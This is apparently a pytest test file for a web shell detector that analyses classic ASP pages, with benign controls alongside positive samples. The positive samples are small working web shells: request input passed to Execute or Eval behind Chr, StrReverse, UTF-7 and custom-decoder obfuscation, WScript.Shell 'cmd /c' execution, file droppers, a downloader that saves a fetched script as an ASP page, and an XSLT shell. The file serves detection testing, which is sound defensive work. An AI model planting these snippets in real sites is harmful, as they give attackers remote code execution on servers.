"""Classic ASP analysis: minimal samples written for these tests, positive and benign per ID."""

from __future__ import annotations

import base64

import pytest

from sscguard.detect.webshell.asp import analyse_asp
from sscguard.detect.webshell.asp_lex import tokenize_page
from sscguard.detect.webshell.detectors import FileContext, run_detectors
from sscguard.detect.webshell.flow import SinkKind
from sscguard.model import Finding, Severity
from sscguard.rules.yara import Matcher, RuleSet


def _chr(text: str) -> str:
    return "&".join(f"Chr({ord(c)})" for c in text)


def _utf7(text: str) -> str:
    """Every character as a UTF-7 base64 run, as the evasion does (not just non-ASCII)."""
    raw = base64.b64encode(text.encode("utf-16-be")).decode().rstrip("=")
    return f"+{raw}-"


def _findings(page: str, name: str = "page.asp") -> list[Finding]:
    return run_detectors(name, page.encode("latin-1"), ())


def _flagged(page: str, name: str = "page.asp") -> dict[str, Finding]:
    return {f.rule_id: f for f in _findings(page, name) if f.severity >= Severity.MEDIUM}


# -- SSC-003-406: request input reaches code execution --------------------------------------

CODE_POSITIVES = {
    "execute-request": '<%\nExecute Request("c")\n%>',
    "eval-form-via-variable": '<%\nDim s\ns = Request.Form("z")\nEval(s)\n%>',
    "executeglobal-cookie": '<%\nk = Request.Cookies("k")\nExecuteGlobal k\n%>',
    "chr-concatenated-request": f'<%\nEval(Eval({_chr("request")})("p"))\n%>',
    "execute-obfuscated-replace": (
        '<%\nt = "ex#ec#ute(req#uest(""q""))"\nt = Replace(t, "#", "")\nEval t\n%>'
    ),
    "strreverse-layer": '<%\nExecute StrReverse(")""w""(tseuqer etucexe")\n%>',
    "chr-built-execute-statement": "<%\nExecute " + _chr('Execute Request("a")') + "\n%>",
    "session-stored": (
        '<%\nIf Request("s") <> "" Then Session("p") = Request("s")\nExecute Session("p")\n%>'
    ),
    "user-function": (
        "<%\nFunction Decode(x)\n  Decode = StrReverse(x)\nEnd Function\n"
        'Execute Decode(Request.QueryString("r"))\n%>'
    ),
    "script-control": (
        '<%\nSet e = Server.CreateObject("MSScript" & "Control.ScriptControl")\n'
        'e.Language = "VBScript"\ne.AddObject "Request", Request\n'
        "e.ExecuteStatement " + _chr('Eval(Request("x"))') + "\n%>"
    ),
    "runat-server-script": (
        '<script runat="server" language="vbscript">\nExecute(Request.Item("t"))\n</script>'
    ),
    "jscript-eval": '<%@ Language="JScript" %>\n<%\nvar c = Request.Form("c");\neval(c);\n%>',
    "jscript-eval-alias": (
        '<%@ Language="JScript" %>\n<%\nvar o = {run: eval, arg: Request("a")};\n'
        "o.run(o.arg + '');\n%>"
    ),
    "jscript-fromcharcode": (
        "<%@ Language=JScript %>\n<%\nvar n = String.fromCharCode(101,118,97,108);\n"
        "var f = this[n] || eval;\nf(Request.QueryString('q') + '');\n%>"
    ),
    "utf7-codepage": "<%@codepage=65000%>\n<%\n" + _utf7('eval(request("u"))') + "\n%>",
    "collection-stored-as-txt": '<%\nDim cmd\ncmd = Request("x")\nExecute(cmd)\n%>',
}


@pytest.mark.parametrize("name", sorted(CODE_POSITIVES))
def test_request_to_code_execution_is_critical(name: str) -> None:
    page = CODE_POSITIVES[name]
    path_name = "x.asp.txt" if name == "collection-stored-as-txt" else "page.asp"
    flagged = _flagged(page, path_name)
    assert "SSC-003-406" in flagged, name
    assert flagged["SSC-003-406"].severity is Severity.CRITICAL


def test_code_path_has_each_hop_with_its_line() -> None:
    page = '<html>\n<%\nDim a\na = Request.Form("cmd")\nb = a\n\nExecute b\n%>\n</html>'
    finding = _flagged(page)["SSC-003-406"]
    steps = [(e.location.line, e.excerpt) for e in finding.evidence if e.kind == "dataflow-step"]
    assert steps[0] == (4, 'Request.form("cmd")')
    assert (5, "b") in steps
    assert steps[-1][0] == 7 and steps[-1][1].lower().startswith("execute")


def test_obfuscated_layer_is_explained_and_tagged() -> None:
    page = f"<%\nx = {_chr('Execute(Request(1))')}\nExecute x\n%>"
    finding = _flagged(page)["SSC-003-406"]
    assert any(ref.technique == "T1027" for ref in finding.attack)
    path = next(e for e in finding.evidence if e.kind == "dataflow-path")
    assert "decoded layer 1" in path.excerpt
    assert path.location.line == 3


CODE_BENIGN = {
    "execute-constant": '<%\nExecute "Dim total"\nx = Eval("1 + 2")\n%>',
    "mvc-dispatch": (
        '<%\nact = Request.QueryString("action")\nSet c = Eval("new Controller_" & act)\n'
        'Eval("c." & act & "()")\n%>'
    ),
    "execute-include-file": (
        '<%\nFunction LoadFile(p)\n  Set fso = CreateObject("Scripting.FileSystemObject")\n'
        "  LoadFile = fso.OpenTextFile(Server.MapPath(p), 1).ReadAll\nEnd Function\n"
        'ExecuteGlobal LoadFile("lib/config.asp")\n%>'
    ),
    "sql-execute-with-request-id": (
        '<%\nSet conn = Server.CreateObject("ADODB.Connection")\nconn.Open Application("dsn")\n'
        'conn.Execute "DELETE FROM t WHERE id=" & CLng(Request("id"))\n'
        'Set rs = conn.Execute("SELECT * FROM news WHERE title LIKE \'%" & '
        'Replace(Request("q"), "\'", "\'\'") & "%\'")\n%>'
    ),
    "comment-mentions-execute": (
        '<%\n\' Execute Request("x") would be a web shell\nRem Eval(Request(1))\n%>'
    ),
    "client-side-script": (
        '<script language="javascript">\nvar q = location.search;\n'
        'eval("f(" + q + ")");\n</script>\n'
        '<%= Request("name") %>'
    ),
}


@pytest.mark.parametrize("name", sorted(CODE_BENIGN))
def test_benign_code_is_not_flagged(name: str) -> None:
    assert _flagged(CODE_BENIGN[name]) == {}, name


# -- SSC-003-440: command execution ---------------------------------------------------------


@pytest.mark.parametrize(
    "page",
    [
        '<%\nSet sh = CreateObject("WScript.Shell")\nSet x = sh.Exec("cmd /c " & Request("c"))\n'
        "Response.Write x.StdOut.ReadAll\n%>",
        f"<%\nSet sh = Server.CreateObject({_chr('WScript.Shell')})\n"
        f'sh.Run Request.Form("p"), 0\n%>',
        '<object runat="server" id="ws" scope="page" '
        'classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>\n'
        '<%\nws.Run "cmd.exe /c " & Request("c")\n%>',
        '<%\nSet a = CreateObject("Shell.Application")\n'
        'a.ShellExecute "cmd.exe", "/c " & Request("c"), "", "open", 0\n%>',
        "<%@ Language=JScript %>\n<%\nvar s = new ActiveXObject('WScript.Shell');\n"
        "Response.Write(s.Exec('cmd /c ' + Request('c')).StdOut.ReadAll());\n%>",
    ],
)
def test_request_to_command_execution(page: str) -> None:
    flagged = _flagged(page)
    assert flagged["SSC-003-440"].severity is Severity.CRITICAL


def test_constant_command_is_not_flagged() -> None:
    page = '<%\nSet sh = CreateObject("WScript.Shell")\nsh.Run "cscript //nologo backup.vbs", 0\n%>'
    assert _flagged(page) == {}


# -- SSC-003-441: dropper ---------------------------------------------------------------------


def test_dropper_with_request_path_and_content() -> None:
    page = (
        'GIF89a<%\nSet fs = Server.CreateObject("Scripting.FileSystemObject")\n'
        'Set f = fs.CreateTextFile(Server.MapPath(Request("n")), True)\n'
        'f.Write Request.Form("body")\nf.Close\n%>'
    )
    finding = _flagged(page)["SSC-003-441"]
    assert finding.severity is Severity.HIGH
    assert any(e.location.line == 4 for e in finding.evidence)


def test_stream_dropper_from_binaryread() -> None:
    page = (
        '<%\ndata = Request.BinaryRead(Request.TotalBytes)\nSet s = CreateObject("ADODB.Stream")\n'
        's.Type = 1\ns.Open\ns.Write data\ns.SaveToFile Request.QueryString("to"), 2\n%>'
    )
    assert "SSC-003-441" in _flagged(page)


def test_upload_into_fixed_folder_is_not_a_dropper() -> None:
    page = (
        '<%\nname = Request.Form("file")\ndata = Request.BinaryRead(Request.TotalBytes)\n'
        'Set s = CreateObject("ADODB.Stream")\ns.Open\ns.Write data\n'
        's.SaveToFile Server.MapPath("uploads/") & "\\" & name, 2\n%>'
    )
    assert _flagged(page) == {}


# -- SSC-003-442: downloader ------------------------------------------------------------------


def test_downloader_saving_a_script() -> None:
    page = (
        '<%\nSet h = CreateObject("Microsoft.XMLHTTP")\n'
        'h.Open "GET", "http://example.test/a.txt", False\n'
        'h.Send\nSet s = CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open\ns.Write h.responseBody\n'
        's.SaveToFile Server.MapPath("x.asp"), 2\n%>'
    )
    finding = _flagged(page)["SSC-003-442"]
    assert finding.evidence[0].location.line == 9


def test_downloader_with_request_url() -> None:
    page = (
        '<%\nSet h = Server.CreateObject("MSXML2.ServerXMLHTTP")\n'
        'h.Open "GET", Request("u"), False\n'
        'h.Send\nSet s = CreateObject("ADODB.Stream")\ns.Open\ns.Write h.responseBody\n'
        's.SaveToFile Server.MapPath("cache/feed.xml"), 2\n%>'
    )
    assert "SSC-003-442" in _flagged(page)


def test_feed_cache_is_not_a_downloader() -> None:
    page = (
        '<%\nSet h = CreateObject("MSXML2.ServerXMLHTTP")\n'
        'h.Open "GET", "https://news.test/rss", False\n'
        'h.Send\nSet s = CreateObject("ADODB.Stream")\ns.Open\ns.Write h.responseBody\n'
        's.SaveToFile Server.MapPath("cache/rss.xml"), 2\n%>'
    )
    assert _flagged(page) == {}


# -- SSC-003-443: SQL console ----------------------------------------------------------------


def test_sql_console() -> None:
    page = (
        '<%\nSession("dsn") = Request.Form("dsn")\n'
        'Set c = Server.CreateObject("ADODB.Connection")\n'
        'c.Open Session("dsn")\nsql = Request.Form("sql")\nSet rs = c.Execute(sql)\n%>'
    )
    finding = _flagged(page)["SSC-003-443"]
    assert finding.severity is Severity.MEDIUM
    assert {e.location.line for e in finding.evidence} >= {4, 6}


# -- SSC-003-444: request-driven file manager ----------------------------------------------


def test_file_manager() -> None:
    page = (
        '<%\np = Request("path")\nSet fso = CreateObject("Scripting.FileSystemObject")\n'
        "For Each f In fso.GetFolder(p).Files\n  Response.Write f.Name\nNext\n"
        'If Request("del") <> "" Then fso.DeleteFile Request("del")\n'
        'Response.Write fso.OpenTextFile(Request("view"), 1).ReadAll\n%>'
    )
    finding = _flagged(page)["SSC-003-444"]
    assert finding.severity is Severity.MEDIUM
    assert any(e.location.line == 7 for e in finding.evidence)


def test_download_page_in_one_folder_is_not_a_file_manager() -> None:
    page = (
        '<%\nSet fso = CreateObject("Scripting.FileSystemObject")\n'
        'f = Server.MapPath("files/" & Request("name"))\n'
        "If fso.FileExists(f) Then Response.Write fso.OpenTextFile(f, 1).ReadAll\n%>"
    )
    assert _flagged(page) == {}


# -- SSC-003-445: writes a program and runs it --------------------------------------------


def test_embedded_executable_written() -> None:
    exe = "MZ" + "\x90\x00\x03" * 100
    page = (
        f"<%\nb = {_chr(exe)}\n"
        'Set fso = CreateObject("Scripting.FileSystemObject")\n'
        'Set t = fso.CreateTextFile("c:\\windows\\temp\\u.exe", True)\nt.Write b\nt.Close\n%>'
    )
    assert _flagged(page)["SSC-003-445"].severity is Severity.HIGH


def test_script_written_then_run() -> None:
    page = (
        '<%\nSet fso = CreateObject("Scripting.FileSystemObject")\n'
        'Set t = fso.CreateTextFile("c:\\temp\\u.vbs", True)\n'
        't.WriteLine "CreateObject(""WScript.Shell"").Run ""calc"""\nt.Close\n'
        'CreateObject("WScript.Shell").Run "c:\\temp\\u.vbs", 0, False\n%>'
    )
    finding = _flagged(page)["SSC-003-445"]
    assert finding.evidence[0].location.line == 6


def test_log_written_and_other_tool_run_is_benign() -> None:
    page = (
        '<%\nSet fso = CreateObject("Scripting.FileSystemObject")\n'
        'Set t = fso.OpenTextFile(Server.MapPath("log.txt"), 8, True)\nt.WriteLine Now()\n%>'
    )
    assert _flagged(page) == {}


# -- SSC-003-446: hidden payload through the page's own decoder -----------------------------


def test_hidden_payload_own_decoder() -> None:
    blob = "".join(chr(35 + (i * 7) % 88) for i in range(400))
    page = (
        "<%\nFunction Dx(s)\n  For i = 1 To Len(s)\n    o = o & Chr(Asc(Mid(s, i, 1)) - 1)\n"
        f'  Next\n  Dx = o\nEnd Function\nExecute Dx("{blob}")\n%>'
    )
    assert _flagged(page)["SSC-003-446"].severity is Severity.HIGH


def test_own_decoder_folded_when_it_is_pure() -> None:
    inner = 'Execute Request("h")'
    page = (
        '<%\nFunction Rv(s)\n  Rv = StrReverse(Replace(s, "~", ""))\nEnd Function\n'
        f'Execute Rv("{"~".join(inner[::-1]).replace(chr(34), chr(34) * 2)}")\n%>'
    )
    assert "SSC-003-406" in _flagged(page)


def test_helper_function_on_short_constant_is_benign() -> None:
    page = (
        '<%\nFunction T(key)\n  T = Application("lang_" & key)\nEnd Function\n'
        'x = Eval(T("welcome_message_title_long"))\n%>'
    )
    assert _flagged(page) == {}


# -- SSC-003-447: XSLT script ------------------------------------------------------------------


def test_xslt_script_with_shell() -> None:
    page = (
        '<%\nSet x = Server.CreateObject("MSXML2.DOMDocument")\n'
        'x.loadXML "<r>whoami</r>"\nSet s = Server.CreateObject("MSXML2.DOMDocument")\n'
        "s.loadXML \"<xsl:stylesheet xmlns:msxsl='urn:schemas-microsoft-com:xslt'>"
        "<msxsl:script language='JScript' implements-prefix='u'>function f(c){"
        "return new ActiveXObject('WScript.Shell').Exec(c).StdOut.ReadAll();}"
        '</msxsl:script></xsl:stylesheet>"\nResponse.Write x.transformNode(s)\n%>'
    )
    assert _flagged(page)["SSC-003-447"].severity is Severity.HIGH


def test_plain_xslt_is_benign() -> None:
    page = (
        '<%\nSet s = Server.CreateObject("MSXML2.DOMDocument")\n'
        's.loadXML "<xsl:stylesheet><xsl:template'
        " match='/'>hi</xsl:template></xsl:stylesheet>\"\n%>"
    )
    assert _flagged(page) == {}


# -- language detection, lexing, gate ----------------------------------------------------------


def test_aspx_and_php_are_not_classic_asp() -> None:
    aspx = '<%@ Page Language="VB" %>\n<%\nExecute Request("c")\n%>'
    assert _flagged(aspx, "p.aspx") == {}
    assert _flagged(aspx, "p.txt") == {}
    assert "SSC-003-406" in _flagged('<%\nExecute Request("c")\n%>', "shell.asp.txt")


def test_lexer_maps_lines_and_handles_vbscript_syntax() -> None:
    page = (
        'head\n<% x = "a""b" _\n  & "c" : \' comment %>\n<%= x %>\n<% Rem nothing here\ny = &H41 %>'
    )
    _, toks = tokenize_page(page)
    strs = [(t.text, t.line) for t in toks if t.kind == "str"]
    assert strs == [('a"b', 2), ("c", 3)]
    assert ("__echo", 4) in [(t.text, t.line) for t in toks]
    assert ("&H41", 6) in [(t.text, t.line) for t in toks]


def test_folded_strings_are_bounded() -> None:
    page = '<%\ns = "AAAAAAAAAAAAAAAA"\nFor i = 1 To 40\n  s = s & s\nNext\nExecute s\n%>'
    result = analyse_asp(page.encode())
    assert result.analysis.paths == ()
    big = "<%\n" + 's = s & String(4096, "x") & s\n' * 200 + "Execute s\n%>"
    analyse_asp(big.encode())  # returns (bounded) instead of growing without limit


def test_analysis_kinds() -> None:
    result = analyse_asp(b'<%\nSet w = CreateObject("WScript.Shell")\nw.Run Request("c")\n%>')
    assert [p.kind for p in result.analysis.paths] == [SinkKind.COMMAND]


def test_gate_rules_pass_asp_candidates(ruleset: RuleSet) -> None:
    matcher = Matcher(ruleset)
    pages = [*CODE_POSITIVES.values(), '<%\nSet f = CreateObject("Scripting.FileSystemObject")\n%>']
    for page in pages:
        matcher.match(page.encode("latin-1"), {})
        assert {"asp_code", "asp_capability"} <= matcher.gates, page
    matcher.match(b"<html><%= Now() %></html>", {})
    assert "asp_capability" not in matcher.gates


def test_detector_uses_gates_when_given() -> None:
    page = b'<%\nExecute Request("c")\n%>'
    ctx = FileContext("a.asp", page, (), False, frozenset({"asp_code"}))
    from sscguard.detect.webshell.asp_detect import detect_asp

    assert detect_asp(ctx) == []
    ctx = FileContext("a.asp", page, (), False, frozenset({"asp_code", "asp_capability"}))
    assert detect_asp(ctx)[0].rule_id == "SSC-003-406"


@pytest.mark.parametrize(
    ("head", "other"),
    [
        (b"<%@ Page Language=C# %>", True),
        (b"<%@page import=x%>", True),
        (b"<%@ LANGUAGE=VBSCRIPT %>", False),
        (b"<?PHP echo 1;", True),
        (b"<JSP:include page=x/>", True),
        (b"<%! int x; %>", True),
        (b"<CFSET x=1>", True),
        (b"<cfsetx>", False),
        (b'x = Request.GetParameter("a")', True),
        (b"x = myrequest.getparameter(a)", False),
        (b"request.getparameters", False),
        (b'<% Response.Write Request("a") %>', False),
    ],
)
def test_other_server_markers_keep_their_meaning(head: bytes, other: bool) -> None:
    from sscguard.detect.webshell.asp_detect import _other_server

    assert _other_server(head) is other
